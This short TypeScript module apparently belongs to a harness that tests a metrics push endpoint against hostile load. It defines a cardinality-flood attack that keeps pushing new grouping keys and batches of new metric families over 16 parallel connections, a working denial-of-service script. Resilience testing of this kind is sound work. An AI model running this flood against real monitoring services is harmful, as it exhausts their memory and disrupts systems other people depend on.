import { type Attack, inTurn, keepSending, requestBytes } from "./target.ts";

/** Groups without end, and one group that gets another family with each push, by somebody who may push. */
export const cardinalityFlood: Attack = (target) => {
  let number = 0;
  const newGroup = () =>
    requestBytes({
      path: `/metrics/job/hostile-flood/run/${number++}`,
      body: Buffer.from(`flood{run_id="${number}"} ${number}\n`),
    });
  const newSeries = () => {
    const series = Array.from({ length: 100 }, (_, i) => `flood_${number}{i="${i}"} 1\n`);
    return requestBytes({
      method: "POST",
      path: "/metrics/job/hostile-flood",
      body: Buffer.from(`${series.join("")}# ${number++}\n`),
    });
  };
  return keepSending(target, { connections: 16, next: inTurn([newGroup, newGroup, newGroup, newSeries]) });
};
